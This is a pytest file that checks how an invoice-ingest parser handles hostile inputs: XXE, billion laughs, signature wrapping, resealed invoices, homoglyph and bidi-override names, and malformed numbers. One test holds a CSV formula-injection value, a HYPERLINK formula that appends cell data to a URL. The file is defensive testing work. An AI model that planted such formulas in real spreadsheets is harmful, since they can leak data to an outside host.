"""Files made to do harm: each is refused or held, with the reason, and quickly."""

from __future__ import annotations

from pathlib import Path

import pytest

from documents import Concept, cfdi_xml
from ingest.test_samples import FOLDER
from rappel.ingest import read, read_invoices

HOSTILE = None if FOLDER is None else FOLDER.parent / "hostile"

# file → verdict, first code. Stricter than it has to be where a scheme is not read yet
# (09, 31).
TABLE = {
    "01-xxe-local-file.xml": ("reject", "dtd_forbidden"),
    "03-billion-laughs.xml": ("reject", "dtd_forbidden"),
    "05-doctype-in-utf16.xml": ("reject", "dtd_forbidden"),
    "08-exponent-amounts.xml": ("reject", "bad_number"),
    "09-nan-infinity.json": ("reject", "not_supported"),
    "12-signature-wrapping.xml": ("reject", "ambiguous_id"),
    "14-nested-attacheddocument.xml": ("reject", "nesting"),
    "20-zip-encrypted.zip": ("reject", "archive_encrypted"),
    "21-csv-formula-injection.csv": ("accept", "currency_not_stated"),
    "23-csv-latin1-semicolon-decimal-comma.csv": ("hold", "encoding_ambiguous"),
    "24-csv-bidi-homoglyph.csv": ("reject", "missing_columns"),
    "29-tampered-total.xml": ("reject", "seal_invalid"),
    "30-resealed-own-key.xml": ("reject", "chain_untrusted"),
    "31-json-duplicate-keys.json": ("reject", "not_supported"),
}


def hostile(name: str) -> bytes:
    if HOSTILE is None or not (HOSTILE / name).is_file():
        pytest.skip("no folder of hostile files")
    return (Path(HOSTILE) / name).read_bytes()


@pytest.mark.parametrize("name", TABLE)
def test_a_hostile_file_gets_its_verdict_and_reason(name: str) -> None:
    (document,) = read(name, hostile(name))
    assert (document.verdict, document.findings[0].code) == TABLE[name]
    assert document.evidence == "D"


def test_a_comment_within_an_amount_cuts_nothing_off() -> None:
    name = "07-comment-splits-amount.xml"
    (document,) = read(name, hostile(name))
    assert (str(document.total), document.verdict) == ("1656.25", "accept")
    assert document.findings == ()


def test_letters_that_look_like_others_are_no_tax_id() -> None:
    name = "24-csv-bidi-homoglyph.csv"
    (document,) = read(name, hostile(name))
    found = {(item.code, item.row, item.column) for item in document.findings}
    assert ("bad_tax_id", 2, "rfc") in found
    assert ("bad_number", 2, "neto") in found


def test_formulas_stay_text_and_a_negative_amount_a_figure() -> None:
    name = "21-csv-formula-injection.csv"
    documents = read_invoices(name, hostile(name))
    assert documents[0].issuer.name == '=HYPERLINK("http://127.0.0.1/"&A1,"ver")'
    assert [document.kind for document in documents] == ["invoice"] * 3 + [
        "credit_note"
    ]
    assert documents[3].total == 100


def test_a_name_loses_the_marks_that_turn_its_direction() -> None:
    document = read("a.xml", cfdi_xml(supplier_name="Sys\u202ecom\u202c  SA"))[0]
    assert document.issuer.name == "Syscom SA"


@pytest.mark.parametrize(
    "value", ["1e9", "NaN", "Infinity", "\uff11\uff10\uff10.00", "+1.00", "1,0"]
)
def test_a_figure_has_one_form_only(value: str) -> None:
    (document,) = read("a.xml", cfdi_xml(Concept(gross=value), subtotal="1", total="1"))
    assert document.verdict == "reject"
    place = [(item.code, item.column) for item in document.findings]
    assert place[0] == ("bad_number", "Concepto[1]@Importe")
